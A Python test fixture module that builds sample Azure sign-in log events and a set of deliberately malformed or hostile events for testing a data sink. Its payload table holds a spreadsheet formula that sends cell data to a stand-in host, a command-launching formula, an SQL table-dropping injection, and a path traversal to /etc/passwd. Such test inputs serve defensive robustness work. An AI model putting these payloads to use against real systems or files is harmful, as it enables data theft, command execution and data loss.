"""Events of the common shape, made here: plain ones, and ones meant to break a sink."""

from __future__ import annotations

from typing import Any

HOSTILE_TEXTS = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "quotes": "a\"b'c,d;e\nf\r\ng",
    "unicode": "Zoë 名前 🔥 \u202e\u2028\u2029 é",
    "xml": "</data><done/></event><event>&amp;<![CDATA[x]]>",
    "sql": "'); DROP TABLE events; --",
    "nul": "a\x00b\x1b[31mred",
    "path": "../../etc/passwd",
    "surrogate": "half \ud83d pair",
}


def event(number: int, stream: str = "interactive", revision: int = 1, **more: Any) -> dict[str, Any]:
    """A sign-in as the normaliser gives it, small."""
    return {
        "@timestamp": f"2026-11-24T10:{number // 60 % 60:02d}:{number % 60:02d}.123Z",
        "event": {"id": f"id-{number}", "dataset": "azure.signinlogs", "outcome": "success", "duration": 125_000_000},
        "data_stream": {"type": "logs", "dataset": "azure.signinlogs", "namespace": "default"},
        "source": {"ip": "198.51.100.7", "as": {"number": 64500}},
        "user": {"name": f"user{number % 7}@contoso.example"},
        "azure": {"signinlogs": {"properties": {"status": {"error_code": 50126}, "is_interactive": True}}},
        "entra": {"stream": stream, "revision": revision, "tenant_id": "11111111-2222-3333-4444-555555555555"},
        **more,
    }


def events(count: int, start: int = 0, **more: Any) -> list[dict[str, Any]]:
    return [event(start + number, **more) for number in range(count)]


def hostile_events() -> list[dict[str, Any]]:
    """Events whose texts a careless sink would run, cut or lose, all of them storable."""
    made = [event(9000 + number, user={"name": text}) for number, text in enumerate(HOSTILE_TEXTS.values())]
    made.append(event(9100, message="x" * 400_000))
    made.append(event(9101, azure={"deep": _nested(60)}))
    made.append(event(9102, stream="../../evil\n", tags=[]))
    made.append(event(9103, source={"ip": "not an address", "as": {"number": "AS64500"}}, flag=None, big=2**53 + 1))
    made.append({**event(9104), "@timestamp": "yesterday"})
    return made


def _nested(depth: int) -> dict[str, Any]:
    return {"a": _nested(depth - 1)} if depth else {"leaf": [1, [2, [{"x": None}]]]}


def name_of(stored: dict[str, Any]) -> tuple[str, int]:
    """What tells events apart."""
    return stored["event"]["id"], stored["entra"]["revision"]
